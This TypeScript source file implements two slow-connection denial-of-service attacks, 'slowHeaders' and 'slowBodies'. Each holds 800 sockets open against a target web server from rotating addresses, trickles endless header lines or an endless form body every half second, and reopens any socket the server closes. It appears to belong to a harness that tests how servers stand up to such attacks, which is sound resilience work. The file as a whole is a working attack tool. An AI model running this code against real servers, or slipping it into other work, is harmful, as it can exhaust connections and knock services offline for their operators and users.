import { attackerSocket } from './attacker-socket.ts';
import type { Attack, Running, Target } from './target.ts';

const connections = 800;
const everyMs = 500;

/** Holds connections open by sending a little now and then, from as many addresses as asked; opened anew when closed. */
function hold(target: Target, start: string, piece: string, addresses: number): Running {
  const counts: Record<string, number> = { opened: 0, closed: 0 };
  const sockets = new Set<ReturnType<typeof attackerSocket>>();
  let isOver = false;
  function open(index: number): void {
    if (isOver) return;
    const socket = attackerSocket(target, index % addresses);
    sockets.add(socket);
    socket.on('connect', () => {
      counts.opened = (counts.opened ?? 0) + 1;
      socket.write(start);
    });
    socket.on('data', (part) => {
      const status = /^HTTP\/1\.1 (\d{3})/.exec(part.toString('latin1', 0, 12))?.[1];
      if (status !== undefined) counts[status] = (counts[status] ?? 0) + 1;
    });
    socket.on('close', () => {
      sockets.delete(socket);
      counts.closed = (counts.closed ?? 0) + 1;
      setTimeout(() => open(index), 250);
    });
  }
  for (let index = 0; index < connections; index += 1) open(index);
  const timer = setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write(piece);
  }, everyMs);
  return {
    stop() {
      isOver = true;
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
      return counts;
    },
  };
}

const host = ({ url }: Target): string => new URL(url).host;

/** Headers that never end. */
export const slowHeaders =
  (addresses: number): Attack =>
  async (target) =>
    hold(target, `GET /p/ HTTP/1.1\r\nhost: ${host(target)}\r\n`, 'x-more: 1\r\n', addresses);

/** A body that never ends, where anybody may send one. */
export const slowBodies =
  (addresses: number): Attack =>
  async (target) => {
    const start =
      `POST /p/bring HTTP/1.1\r\nhost: ${host(target)}\r\norigin: ${new URL(target.url).origin}\r\n` +
      'content-type: application/x-www-form-urlencoded\r\ncontent-length: 900000\r\n\r\n';
    return hold(target, start, 'a=1&', addresses);
  };
